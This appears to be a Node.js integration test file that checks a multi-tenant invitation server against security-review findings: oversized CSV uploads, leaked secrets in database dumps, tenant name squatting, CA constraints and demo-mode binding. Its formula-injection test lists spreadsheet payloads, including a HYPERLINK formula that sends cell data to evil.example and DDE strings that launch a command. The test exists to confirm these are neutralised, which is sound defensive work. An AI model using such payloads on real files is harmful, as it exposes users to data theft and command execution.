// Attacks on data at rest and hostile files, against the real server over
// HTTPS (security review #9, #14, #15, #25, #26, #27, #28):
//   - hostile CSV uploads are refused at upload with a clear 400;
//   - results cells a file chose can't start a spreadsheet formula;
//   - a database dump (sqlite3 .dump / pg_dump) yields no working redeem
//     link or one-time code once mail is delivered, while the results
//     download still gives the links;
//   - an environment name taken in one tenant can't be taken in another, and
//     /env/NAME reaches the tenant that has it;
//   - the local CA is name-constrained and its key is not in the data folder;
//   - --demo refuses to listen off loopback.
// run.sh passes GH_DATA_DIR (the server's data folder) and GH_DATABASE (its
// PostgreSQL URL, empty on SQLite).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { baseUrl, tenants, raw, waitForMail } from './harness.mjs';
import { Browser, field } from './browser.mjs';
import { adminToken } from './consent.mjs';

const { contoso, fabrikam } = tenants;
const suffix = Date.now().toString(36);
const dataDir = process.env.GH_DATA_DIR ?? dirname(dirname(process.env.NODE_EXTRA_CA_CERTS));
const database = process.env.GH_DATABASE ?? '';
const root = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
const bin = process.env.GATEHOUSE_BIN ?? join(root, 'build', 'gatehouse');

// As Contoso's Global Administrator: apps may not invite under the default policy.
async function upload(csv, query = '?redirectUrl=https://apps.contoso.test/') {
  return raw('POST', `/api/v1/bulkInvitations${query}`, {
    body: csv, headers: { 'Content-Type': 'text/csv' }, token: `Bearer ${await adminToken(contoso)}` });
}

async function finished(id) {
  const deadline = Date.now() + 60000;
  for (;;) {
    const job = (await raw('GET', `/api/v1/bulkInvitations/${id}`)).json;
    if (!['queued', 'running'].includes(job.status)) return job;
    if (Date.now() > deadline) throw new Error(`job ${id} still ${job.status}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

// RFC 4180 records of a results file, heading first.
function records(csv) {
  const out = [];
  let rec = [], cell = '', quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i];
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { rec.push(cell); cell = ''; }
    else if (c === '\r') continue;
    else if (c === '\n') { rec.push(cell); out.push(rec); rec = []; cell = ''; }
    else cell += c;
  }
  if (cell || rec.length) { rec.push(cell); out.push(rec); }
  return out;
}

function dump() {
  if (database) return execFileSync('pg_dump', ['--data-only', database], { maxBuffer: 1 << 28 }).toString();
  return execFileSync('sqlite3', [join(dataDir, 'gatehouse.db'), '.dump'], { maxBuffer: 1 << 28 }).toString();
}

async function jobCount() {
  return (await raw('GET', '/api/v1/bulkInvitations?$top=999')).json.value.length;
}

// ---- #14: hostile files are refused at upload, nothing queued

test('a CSV record with a million commas is refused with a clear 400', async () => {
  const before = await jobCount();
  const r = await upload(`email,displayName\nann-${suffix}@partner.example${','.repeat(1_000_000)}\n`);
  assert.equal(r.status, 400, r.text.slice(0, 300));
  assert.equal(r.json.error.code, 'Request_BadRequest');
  assert.match(r.json.error.message, /more than 64 fields/);
  assert.equal(await jobCount(), before);
});

// 7 MiB: the transport's default body limit is 8 MiB (the unit test sends 10 MB through the router).
test('a 7 MB field is refused with a clear 400', async () => {
  const before = await jobCount();
  const r = await upload(`email,displayName\nann-${suffix}@partner.example,"${'a'.repeat(7 * 1024 * 1024)}"\n`);
  assert.equal(r.status, 400, r.text.slice(0, 300));
  assert.match(r.json.error.message, /longer than 65536 bytes/);
  assert.equal(await jobCount(), before);
});

test('a file with too many rows is refused with a clear 400', async () => {
  const before = await jobCount();
  const lines = ['email'];
  for (let i = 0; i <= 500_000; i++) lines.push(`${i}@p.co`);  // ~6 MB: under the transport's limit
  const r = await upload(lines.join('\n') + '\n');
  assert.equal(r.status, 400, r.text.slice(0, 300));
  assert.match(r.json.error.message, /more than 500000 rows/);
  assert.equal(await jobCount(), before);
});

// ---- #25: formula injection in the results

test('results cells starting with = + - @ are neutralised', async () => {
  const payloads = ['=HYPERLINK("https://evil.example/?"&A1,"Fix")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0',
                    '@SUM(1+9)*cmd|\' /C calc\'!A0'];
  const csv = 'email,displayName\n' + payloads.map((p) => `"${p.replace(/"/g, '""')}",Mallory`).join('\n') + '\n';
  const r = await upload(csv);
  assert.equal(r.status, 202, r.text);
  await finished(r.json.id);
  const results = await raw('GET', `/api/v1/bulkInvitations/${r.json.id}/results`);
  assert.equal(results.status, 200);
  const rows = records(results.text).slice(1);
  assert.equal(rows.length, payloads.length);
  rows.forEach((row, i) => {
    assert.equal(row[1], `'${payloads[i]}`);
    for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), `a cell starts a formula: ${cell}`);
  });
});

// ---- #9: no working redeem link or one-time code in a database dump

test('after delivery a database dump holds no redeem link or one-time code; the results still give the links', async () => {
  const guests = [1, 2, 3].map((i) => `dump${i}-${suffix}@partner.example`);
  const r = await upload('email,displayName\n' + guests.map((g) => `${g},Guest`).join('\n') + '\n');
  assert.equal(r.status, 202, r.text);
  const job = await finished(r.json.id);
  assert.equal(job.status, 'completed');
  const results = records((await raw('GET', `/api/v1/bulkInvitations/${job.id}/results`)).text).slice(1);
  const tickets = results.map((row) => new URL(row[4]).searchParams.get('ticket'));
  assert.equal(tickets.length, 3);
  tickets.forEach((t) => assert.ok(t && t.length >= 20, `a ticket in the results: ${t}`));
  // Each guest got the link by mail (the SMTP sink).
  for (const [i, g] of guests.entries()) assert.ok((await waitForMail(g)).text.includes(tickets[i]));

  // A personal-account sign-up mails a one-time code.
  const browser = new Browser();
  const form = await browser.get('/signup');
  const personal = `gh-dump-${suffix}@outlook.com`;  // sign-up takes personal addresses only
  const started = await browser.post('/signup', { csrf: field(form.text, 'csrf'), step: 'form', email: personal,
    display_name: 'Dump Test', password: 'Str0ng-Passw0rd!', confirm: 'Str0ng-Passw0rd!' });
  assert.equal(started.status, 200, started.text);
  const otpMail = await waitForMail(personal, 20000, (m) => /verification code/.test(m.subject));
  const code = otpMail.text.match(/\b(\d{6,8})\b/)[1];

  // Delivered mail is marked sent (and purged) right after the sink has it.
  const secrets = [...tickets, code];
  let leaked = secrets;
  for (const deadline = Date.now() + 15000; Date.now() < deadline;) {
    const text = dump();
    leaked = secrets.filter((s) => text.includes(s));
    if (leaked.length === 0) break;
    await new Promise((res) => setTimeout(res, 250));
  }
  assert.deepEqual(leaked, [], 'working secrets in the database dump');
  // The submitter still downloads every link.
  const again = records((await raw('GET', `/api/v1/bulkInvitations/${job.id}/results`)).text).slice(1);
  assert.deepEqual(again.map((row) => new URL(row[4]).searchParams.get('ticket')), tickets);
});

// ---- #15: environment URL squatting

test('an environment name taken in one tenant cannot be taken in another, and /env/NAME reaches its tenant', async () => {
  const name = `sales-${suffix}`;
  const body = (u) => JSON.stringify({ displayName: 'Sales', uniqueName: u, type: 'Production' });
  const json = { 'Content-Type': 'application/json' };
  const made = await raw('POST', '/api/v1/environments', { tenant: contoso, body: body(name), headers: json });
  assert.equal(made.status, 201, made.text);
  const squat = await raw('POST', '/api/v1/environments', { tenant: fabrikam, body: body(name), headers: json });
  assert.equal(squat.status, 400, squat.text);
  assert.match(squat.json.error.message, /taken/);
  // Another organisation's Default environment name is kept for it.
  const contosoDefault = (await raw('GET', '/api/v1/environments', { tenant: contoso })).json.value
    .find((e) => e.type === 'Default').uniqueName;
  const squatDefault = await raw('POST', '/api/v1/environments',
    { tenant: fabrikam, body: body(contosoDefault), headers: json });
  assert.equal(squatDefault.status, 400, squatDefault.text);
  for (const unique of [name, contosoDefault]) {
    const visit = await new Browser().get(`/env/${unique}`);
    assert.equal(visit.status, 302, visit.text);  // to its tenant's sign-in
    assert.equal(new URL(visit.location).searchParams.get('tenant'), contoso.tenantId);
  }
});

// ---- #26: the local CA

test('the local CA is name-constrained to localhost and its key is not in the data folder', () => {
  const text = execFileSync('openssl', ['x509', '-noout', '-text', '-in', process.env.NODE_EXTRA_CA_CERTS]).toString();
  assert.match(text, /X509v3 Name Constraints: critical/);
  assert.match(text, /Permitted:\s+DNS:localhost\s+IP:127\.0\.0\.0\/255\.0\.0\.0\s+IP:0:0:0:0:0:0:0:1\//i);
  assert.ok(!existsSync(join(dataDir, 'tls', 'ca-key.pem')), 'the CA key is still in the data folder');
  assert.ok(existsSync(join(dataDir, 'tls', 'server-key.pem')));
});

// ---- #27: operational secrets

test('--demo refuses to listen on a non-loopback address', () => {
  const dir = mkdtempSync(join(tmpdir(), 'gh-demo-'));
  try {
    for (const listen of ['0.0.0.0:0', '[::]:0']) {
      const run = spawnSync(bin, ['serve', '--data', dir, '--listen', listen, '--demo', '--insecure-http'],
        { timeout: 20000, encoding: 'utf8' });
      assert.equal(run.status, 2, `${listen}: ${run.stdout}\n${run.stderr}`);
      assert.match(run.stderr, /--demo only listens on a loopback address/);
      assert.doesNotMatch(run.stdout, /listening on/);
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the first admin password can come from a file instead of the command line', () => {
  const dir = mkdtempSync(join(tmpdir(), 'gh-init-'));
  try {
    execFileSync('sh', ['-c', `umask 077; printf 'Fil3-Passw0rd!\\n' > '${dir}/pw'`]);
    const run = spawnSync(bin, ['init', '--data', join(dir, 'data'), '--tenant', 'Filed', '--domain', 'filed.test',
      '--admin', 'admin@filed.test', '--password-file', join(dir, 'pw'), '--output', 'json'], { encoding: 'utf8' });
    assert.equal(run.status, 0, run.stderr);
    assert.equal(JSON.parse(run.stdout).domain, 'filed.test');
    assert.doesNotMatch(run.stderr, /visible to every user/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
